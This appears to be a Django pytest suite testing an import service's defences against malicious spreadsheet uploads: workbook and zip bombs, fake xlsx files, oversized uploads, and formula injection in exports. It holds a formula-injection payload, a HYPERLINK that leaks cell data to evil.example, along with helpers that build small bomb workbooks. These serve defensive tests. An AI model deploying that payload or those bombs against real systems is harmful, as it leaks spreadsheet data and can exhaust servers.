"""Malicious uploads: workbook bombs (declared and actual extent, compression ratio, unpacked
size, sheet count), files that only pretend to be xlsx, oversized uploads, formula injection in
every export, and text amplification."""

from __future__ import annotations

import io
import os
import re
import subprocess
import sys
import time
import zipfile
from pathlib import Path
from types import SimpleNamespace

import pytest
from django.apps import apps
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.files.uploadhandler import StopUpload
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from kechuang.core.excel import FORMULA_TRIGGERS, append_row, workbook_bytes
from kechuang.core.roles import Role
from kechuang.enterprises.models import Enterprise
from kechuang.enterprises.tests.factories import (
    make_credit_code,
    make_enterprise,
    make_town,
    make_user,
)
from kechuang.imports.exports import errors_workbook, export_workbook, template_workbook
from kechuang.imports.forms import SizeLimitUploadHandler
from kechuang.imports.guard import Limits, WorkbookRejected, check_workbook
from kechuang.imports.models import ImportBatch, ImportStatus
from kechuang.imports.schemas import SCHEMAS
from kechuang.imports.services import import_file
from kechuang.imports.tests.test_import import ENT, enterprise_rows, workbook

ROOT = Path(__file__).resolve().parents[3]
MAIN_NS = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


@pytest.fixture
def staff(client):
    user = make_user(Role.BUREAU_STAFF)
    client.force_login(user)
    return user


def bomb(path: Path, cell: str = "XFD20000") -> Path:
    """The audit's workbook: the enterprise headers and one cell far away (about 5 KB)."""
    wb = Workbook()
    ws = wb.active
    ws.title = ENT.sheet
    ws.append(ENT.headers)
    ws[cell] = "x"
    wb.save(path)
    return path


def rewrite_sheet(path: Path, change) -> Path:
    """Rewrite the first worksheet's XML of an xlsx with `change(xml) -> xml`."""
    data = io.BytesIO(path.read_bytes())
    with zipfile.ZipFile(data) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            content = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                content = change(content)
            out.writestr(info.filename, content)
    return path


def first_message(path, **kw) -> str:
    return import_file(path, dry_run=True, language="zh-hans", **kw).errors[0]["message"]


# ------------------------------------------------------------------ workbook bombs


@pytest.mark.django_db
def test_the_5kb_xfd20000_workbook_is_refused_at_once_with_a_message(tmp_path):
    path = bomb(tmp_path / "bomb.xlsx")
    assert path.stat().st_size < 10_000
    t0 = time.perf_counter()
    message = first_message(path)
    assert time.perf_counter() - t0 < 2
    assert "过大" in message and "XFD20000" in message and "60" in message


@pytest.mark.django_db
def test_the_bomb_uploaded_on_the_page_ends_in_a_failed_batch_with_the_message(
    client, staff, tmp_path, settings, django_capture_on_commit_callbacks
):
    settings.MEDIA_ROOT = tmp_path / "media"
    content = bomb(tmp_path / "bomb.xlsx").read_bytes()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("imports:import_list"),
            {"file": SimpleUploadedFile("bomb.xlsx", content)},
        )
    assert response.status_code == 302
    batch = ImportBatch.objects.get()
    assert batch.status == ImportStatus.FAILED
    assert "XFD20000" in batch.errors[0]["message"]
    page = client.get(reverse("imports:import_detail", args=[batch.pk])).content.decode()
    assert "XFD20000" in page


def test_the_bomb_does_not_crash_a_worker_with_bounded_memory(tmp_path):
    """In a separate process limited to 1.5 GB of address space (the old reader asked for
    10 GB and aborted): the check refuses the file and the process lives on."""
    path = bomb(tmp_path / "bomb.xlsx")
    script = (
        "import resource, django, sys\n"
        "django.setup()\n"
        "from kechuang.imports.services import read_workbook\n"
        "from kechuang.imports.guard import WorkbookRejected\n"
        "resource.setrlimit(resource.RLIMIT_AS, (1536 << 20, resource.RLIM_INFINITY))\n"
        "try:\n"
        "    read_workbook(sys.argv[1])\n"
        "    print('READ')\n"
        "except WorkbookRejected:\n"
        "    print('REJECTED')\n"
        # VmHWM is this process's own peak; ru_maxrss would report the pytest worker's peak,
        # which the kernel carries across the exec that started this process.
        "hwm = [l for l in open('/proc/self/status') if l.startswith('VmHWM')][0].split()[1]\n"
        "print('ALIVE', hwm)\n"
    )
    out = subprocess.run(
        [sys.executable, "-c", script, str(path)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "DJANGO_SETTINGS_MODULE": "config.settings.test"},
    )
    assert out.returncode == 0, out.stderr[-2000:]
    assert "REJECTED" in out.stdout and "ALIVE" in out.stdout
    peak_kb = int(re.search(r"ALIVE (\d+)", out.stdout).group(1))
    assert peak_kb < 1_000_000, out.stdout


@pytest.mark.django_db
def test_a_lying_dimension_is_caught_by_the_cell_references(tmp_path):
    path = rewrite_sheet(
        bomb(tmp_path / "b.xlsx"), lambda xml: re.sub(rb"<dimension [^>]*/>", b"", xml)
    )
    assert b"dimension" not in zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
    assert "过大" in first_message(path)


@pytest.mark.django_db
def test_cells_in_another_attribute_order_are_checked_too(tmp_path):
    def move(xml):
        xml = re.sub(rb"<dimension [^>]*/>", b"", xml)
        return xml.replace(b'<c r="XFD20000" t="inlineStr">', b'<c t="inlineStr" r="XFD20000">')

    path = rewrite_sheet(bomb(tmp_path / "b.xlsx"), move)
    assert b'<c t="inlineStr" r="XFD20000">' in zipfile.ZipFile(path).read(
        "xl/worksheets/sheet1.xml"
    )
    assert "过大" in first_message(path)


@pytest.mark.django_db
def test_rows_beyond_the_row_limit_are_refused(tmp_path, settings, town):
    settings.KECHUANG_IMPORT_MAX_ROWS = 5
    codes = [make_credit_code() for _ in range(6)]
    path = workbook(tmp_path / "rows.xlsx", {ENT.sheet: enterprise_rows(town.name, codes)})
    assert "最多 5 行" in first_message(path)
    settings.KECHUANG_IMPORT_MAX_ROWS = 6
    assert import_file(path, dry_run=True).errors == []


@pytest.mark.django_db
def test_per_template_row_limit(tmp_path, settings, town):
    settings.KECHUANG_IMPORT_TEMPLATE_LIMITS = {"enterprises": {"rows": 2}}
    codes = [make_credit_code() for _ in range(3)]
    path = workbook(tmp_path / "rows.xlsx", {ENT.sheet: enterprise_rows(town.name, codes)})
    assert "最多 2 行" in first_message(path)


@pytest.mark.django_db
def test_cells_without_a_position_are_refused(tmp_path):
    path = rewrite_sheet(
        bomb(tmp_path / "b.xlsx", "C2"),
        lambda xml: xml.replace(b'<c r="C2" t="inlineStr">', b'<c t="inlineStr">'),
    )
    assert "未标明位置" in first_message(path)


def _pad_before(xml: bytes, marker: bytes, offset: int) -> bytes:
    """Put an inline-text cell of padding in the first row so that ``marker`` starts at byte
    ``offset`` of the sheet's XML."""
    at = xml.index(b"</row>")
    cell = b'<c r="Z1" t="inlineStr"><is><t>'
    room = offset - xml.index(marker) - len(cell) - len(b"</t></is></c>")
    assert room > 0
    padding = os.urandom(room).hex().encode()[:room]  # does not compress like a bomb
    return xml[:at] + cell + padding + b"</t></is></c>" + xml[at:]


@pytest.mark.django_db
@pytest.mark.parametrize("split", [0, 3, 9])
def test_a_reference_across_two_decompressed_chunks_is_still_caught(tmp_path, split):
    from kechuang.imports.guard import CHUNK

    marker = b'<c r="XFD20000"'
    path = rewrite_sheet(
        bomb(tmp_path / "b.xlsx"),
        lambda xml: _pad_before(re.sub(rb"<dimension [^>]*/>", b"", xml), marker, CHUNK - split),
    )
    xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
    assert xml.index(marker) == CHUNK - split
    assert "过大" in first_message(path)


@pytest.mark.django_db
def test_prefixed_cells_beyond_the_limit_or_without_a_position_are_refused(tmp_path):
    def prefix(xml: bytes) -> bytes:
        xml = re.sub(rb"<dimension [^>]*/>", b"", xml)
        xml = re.sub(rb"<(/?)(worksheet|sheetData|row|c|is|t)\b", rb"<\1x:\2", xml)
        return xml.replace(b"<x:worksheet ", b'<x:worksheet xmlns:x="' + MAIN_NS + b'" ', 1)

    far = rewrite_sheet(bomb(tmp_path / "far.xlsx"), prefix)
    assert b'<x:c r="XFD20000"' in zipfile.ZipFile(far).read("xl/worksheets/sheet1.xml")
    assert "过大" in first_message(far)
    unplaced = rewrite_sheet(
        bomb(tmp_path / "unplaced.xlsx", "C2"),
        lambda xml: prefix(xml).replace(b'<x:c r="C2" t="inlineStr">', b'<x:c t="inlineStr">'),
    )
    assert "未标明位置" in first_message(unplaced)


@pytest.mark.django_db
def test_a_sheet_that_is_not_utf8_is_still_checked(tmp_path):
    def latin1(xml: bytes) -> bytes:  # a text cell in ISO-8859-1, then a cell without r
        xml = xml.replace(b'<c r="C2" t="inlineStr">', b'<c t="inlineStr">')
        return xml.replace(b"<t>x</t>", b"<t>caf\xe9</t>")

    path = rewrite_sheet(bomb(tmp_path / "b.xlsx", "C2"), latin1)
    xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
    with pytest.raises(UnicodeDecodeError):
        xml.decode("utf-8")
    with pytest.raises(WorkbookRejected, match="without a position|未标明位置"):
        check_workbook(path)


def test_attributes_named_like_r_do_not_count_as_a_position():
    import polars as pl

    from kechuang.imports.guard import UNPLACED, UNPLACED_POLARS

    tags = [
        '<c t="s">',
        "<row>",
        "<c/>",
        '<c xr="A1">',
        '<c s="1" t="n"/>',  # no position
        '<c r="A1">',
        "<c t='s' r='A1'>",
        '<x:c x:r="B2" t="s">',
        '<row r="5" spans="1:3">',
        "<cols>",
        '<col min="1">',  # a position, or not a cell at all
    ]
    python = [bool(UNPLACED.search(t.encode())) for t in tags]
    polars = pl.Series(tags).str.contains(UNPLACED_POLARS).to_list()
    assert python == polars == [True] * 5 + [False] * 6


def _zip(path: Path, members: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> Path:
    base = io.BytesIO()
    wb = Workbook()
    wb.active.title = ENT.sheet
    wb.active.append(ENT.headers)
    wb.save(base)
    with zipfile.ZipFile(base) as src, zipfile.ZipFile(path, "w", compression) as out:
        for info in src.infolist():
            out.writestr(info.filename, src.read(info))
        for name, content in members.items():
            out.writestr(name, content)
    return path


@pytest.mark.django_db
def test_a_zip_bomb_member_is_refused_by_its_compression_ratio(tmp_path):
    path = _zip(tmp_path / "zip.xlsx", {"xl/media/pad.bin": b"\0" * (20 << 20)})
    assert path.stat().st_size < 200_000
    assert "压缩炸弹" in first_message(path)


@pytest.mark.django_db
def test_the_unpacked_size_is_limited(tmp_path, settings):
    settings.KECHUANG_IMPORT_MAX_UNPACKED_MB = 1
    path = _zip(tmp_path / "big.xlsx", {"xl/media/noise.bin": os.urandom(2 << 20)})
    assert "解压后超过 1 MB" in first_message(path)


@pytest.mark.django_db
def test_too_many_sheets_are_refused(tmp_path):
    wb = Workbook()
    for i in range(30):
        wb.create_sheet(f"表{i}")
    wb.save(tmp_path / "sheets.xlsx")
    assert "31 个工作表" in first_message(tmp_path / "sheets.xlsx")


def test_limits_regexes_accept_exactly_the_limit(tmp_path):
    limits = Limits(rows=100, columns=60, sheets=5, unpacked_bytes=10 << 20, ratio=200)
    ok = bomb(tmp_path / "ok.xlsx", "BH101")  # column 60, row 101 (= 100 data rows)
    check_workbook(ok, limits)
    for cell in ("BI2", "A102"):
        path = rewrite_sheet(
            bomb(tmp_path / f"{cell}.xlsx", cell),
            lambda xml: re.sub(rb"<dimension [^>]*/>", b"", xml),
        )
        with pytest.raises(WorkbookRejected):
            check_workbook(path, limits)


# ------------------------------------------------------------------ not really a workbook


@pytest.mark.django_db
def test_a_text_file_renamed_xlsx_is_refused_on_upload(client, staff):
    response = client.post(
        reverse("imports:import_list"),
        {"file": SimpleUploadedFile("data.xlsx", b"name,code\n=1+1,2\n")},
    )
    assert response.status_code == 200
    assert "不是 Excel 工作簿" in response.content.decode()
    assert not ImportBatch.objects.exists()


@pytest.mark.django_db
def test_a_zip_that_is_no_workbook_is_refused_on_upload(client, staff):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("readme.txt", "hello")
    response = client.post(
        reverse("imports:import_list"),
        {"file": SimpleUploadedFile("data.xlsx", buffer.getvalue())},
    )
    assert "不是 Excel 工作簿" in response.content.decode()
    assert not ImportBatch.objects.exists()


@pytest.mark.django_db
def test_not_a_zip_is_unreadable_for_the_importer(tmp_path):
    path = tmp_path / "x.xlsx"
    path.write_bytes(b"\xd0\xcf\x11\xe0" + b"\0" * 600)  # an old .xls (OLE) renamed
    assert first_message(path) == "无法将该文件作为 Excel 工作簿读取。"


# ------------------------------------------------------------------ oversized uploads


@pytest.mark.django_db
def test_an_oversized_upload_is_refused_with_a_message(client, staff, settings):
    settings.KECHUANG_UPLOAD_MAX_MB = 1
    response = client.post(
        reverse("imports:import_list"),
        {"file": SimpleUploadedFile("big.xlsx", b"PK\x03\x04" + b"\0" * (2 << 20))},
    )
    assert response.status_code == 200
    assert "文件超过 1 MB" in response.content.decode()
    assert not ImportBatch.objects.exists()


def test_the_size_limit_stops_the_stream_at_the_first_chunk_over_it():
    handler = SizeLimitUploadHandler(SimpleNamespace(), limit=100)
    handler.new_file("file", "a.xlsx", "application/octet-stream", None)
    assert handler.receive_data_chunk(b"x" * 60, 0) == b"x" * 60
    with pytest.raises(StopUpload):
        handler.receive_data_chunk(b"x" * 60, 60)  # never stored whole
    assert handler.request.upload_too_large is True
    announced = SizeLimitUploadHandler(SimpleNamespace(), limit=100)
    announced.handle_raw_input(None, {}, 10 << 20, b"--b")
    announced.new_file("file", "a.xlsx", "application/octet-stream", None)
    with pytest.raises(StopUpload):
        announced.receive_data_chunk(b"x", 0)  # refused before reading the file


# ------------------------------------------------------------------ formula injection


def _no_formula(content: bytes) -> list:
    wb = load_workbook(io.BytesIO(content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    return [c.value for c in cells]


def test_core_helper_writes_formula_like_strings_as_text_and_keeps_numbers():
    for write_only in (False, True):
        wb = Workbook(write_only=write_only)
        ws = wb.create_sheet("s")
        append_row(ws, [EVIL, "+1", "-2", "@SUM(A1)", "\t=1", "\r=1", -5, 3.5, "普通"])
        values = _no_formula(workbook_bytes(wb))
        assert values == [EVIL, "+1", "-2", "@SUM(A1)", "\t=1", "\r=1", -5, 3.5, "普通"]
    assert FORMULA_TRIGGERS == ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def town():
    return make_town("浒山街道")


@pytest.mark.django_db
def test_enterprise_export_neutralises_and_reimports_unchanged(tmp_path, town):
    enterprise = make_enterprise(name=EVIL, town=town, address="-3", tags="@tag")
    content = export_workbook(ENT, Enterprise.objects.all())
    values = _no_formula(content)
    assert EVIL in values and "-3" in values
    path = tmp_path / "export.xlsx"
    path.write_bytes(content)
    result = import_file(path, dry_run=False)
    assert result.errors == [] and result.summary()["unchanged"] == 1
    enterprise.refresh_from_db()
    assert enterprise.name == EVIL and enterprise.address == "-3"


@pytest.mark.django_db  # the templates' drop-downs list the towns
def test_error_report_and_templates_have_no_formulas():
    values = _no_formula(
        errors_workbook([{"sheet": "=1", "row": 2, "column": "+A", "value": EVIL, "message": "@x"}])
    )
    assert EVIL in values and "=1" in values
    for schema in SCHEMAS.values():
        _no_formula(template_workbook(schema))


def test_report_workbook_has_no_formulas():
    from kechuang.reports.builders.xlsx import render_xlsx
    from kechuang.reports.content import Document, Table, TableBlock

    table = Table(key="t", title="表", columns=["名称", "数值"], rows=[[EVIL, -1], ["=2", 3]])
    document = Document(
        year=2024,
        title="报告",
        blocks=[TableBlock(table)],
        tables=[table],
        cited=[],
        region_name="慈溪市",
    )
    values = _no_formula(render_xlsx(document))
    assert EVIL in values and -1 in values


def test_zero_rd_workbook_has_no_formulas():
    from kechuang.rnd.exports import zero_rd_workbook
    from kechuang.rnd.logic.zero_rd import ZeroRdSpec

    row = SimpleNamespace(
        is_contradiction=True,
        name=EVIL,
        credit_code="=1",
        town=SimpleNamespace(name="+镇"),
        industry_code="-1",
        holds_high_tech=False,
        holds_tech_sme=False,
        fy_operating_revenue=1000,
        fy_rd_expense_stat=None,
        fy_rd_deduction_scope=None,
        fy_tech_staff=1,
    )
    rows = SimpleNamespace(iterator=lambda chunk_size: iter([row]))
    values = _no_formula(zero_rd_workbook(rows, ZeroRdSpec(year=2024)))
    assert EVIL in values


@pytest.mark.django_db
def test_indicator_values_workbook_has_no_formulas():
    from kechuang.indicators.models import Indicator, IndicatorValue
    from kechuang.indicators.services import indicator_values_workbook
    from kechuang.regions.models import Region

    region = Region.objects.create(code="330203", name=EVIL, province="浙江省", city="宁波市")
    indicator = Indicator.objects.create(code="share", name_zh="=1+1", unit="%")
    IndicatorValue.objects.create(indicator=indicator, region=region, year=2024, value=1)
    values = _no_formula(indicator_values_workbook())
    assert EVIL in values and "=1+1" in values


def test_reserve_pool_export_has_no_formulas():
    from kechuang.qualifications.pages import reserve_workbook

    enterprise = SimpleNamespace(
        name=EVIL, credit_code="=1", town=SimpleNamespace(name="@镇"), industry_code="+1"
    )
    result = SimpleNamespace(
        enterprise=enterprise, status="pass", conditions={}, gaps=[], gap_cost_wan=None
    )
    qs = SimpleNamespace(iterator=lambda chunk_size: iter([result]))
    values = _no_formula(reserve_workbook(qs))
    assert EVIL in values


def test_every_workbook_the_product_writes_goes_through_core_excel():
    """`grep -rn openpyxl kechuang`: each module that builds a workbook saves it with
    `workbook_bytes` (or writes rows with `append_row`), never with a bare `wb.save`."""
    offenders = []
    for path in (ROOT / "kechuang").rglob("*.py"):
        if "tests" in path.parts or path == ROOT / "kechuang" / "core" / "excel.py":
            continue  # core.excel is where `workbook_bytes` itself saves
        text = path.read_text(encoding="utf-8")
        if "Workbook(" not in text:
            continue
        if re.search(r"\bwb\.save\(", text) or "workbook_bytes" not in text:
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


# ------------------------------------------------------------------ text amplification


def test_every_text_column_is_capped_at_its_model_field_length():
    for schema in SCHEMAS.values():
        model = apps.get_model(schema.model_label)
        for column in schema.columns:
            if column.kind != "str":
                continue
            field = model._meta.get_field(column.field)
            assert column.max_length == field.max_length, (schema.name, column.field)


@pytest.mark.django_db
def test_oversized_text_is_a_row_error_and_the_report_stays_small(tmp_path, town):
    huge = "科" * 100_000
    rows = enterprise_rows(town.name, [make_credit_code()])
    rows[1][1] = huge
    path = workbook(tmp_path / "long.xlsx", {ENT.sheet: rows})
    result = import_file(path, dry_run=False, language="zh-hans")
    assert not result.committed and not Enterprise.objects.exists()
    (error,) = result.errors
    assert error["row"] == 2 and error["column"] == "企业名称" and "128" in error["message"]
    assert len(error["value"]) <= 101


@pytest.mark.django_db
def test_the_upload_page_still_checks_the_csrf_token():
    from django.test import Client

    client = Client(enforce_csrf_checks=True)
    client.force_login(make_user(Role.BUREAU_STAFF))
    response = client.post(
        reverse("imports:import_list"), {"file": SimpleUploadedFile("a.xlsx", b"PK")}
    )
    assert response.status_code == 403
    assert not ImportBatch.objects.exists()


@pytest.mark.django_db
def test_streamed_rows_keep_their_columns_when_the_first_column_is_empty(tmp_path, town):
    rows = [[None, *row] for row in enterprise_rows(town.name, [make_credit_code()])]
    rows.insert(2, [None] * 9)  # an empty row keeps the row numbers of the next ones
    rows.append([None, make_credit_code(), "乙", town.name])  # a short row: no industry code
    path = workbook(tmp_path / "offset.xlsx", {ENT.sheet: rows})
    result = import_file(path, dry_run=True, language="zh-hans")
    assert [(e["row"], e["column"]) for e in result.errors] == [(4, "行业代码")]
    rows[-1].append("3851")
    path = workbook(tmp_path / "offset.xlsx", {ENT.sheet: rows})
    result = import_file(path, dry_run=False)
    assert result.errors == [] and result.summary()["created"] == 2
    assert set(Enterprise.objects.values_list("name", flat=True)) == {"企业0", "乙"}
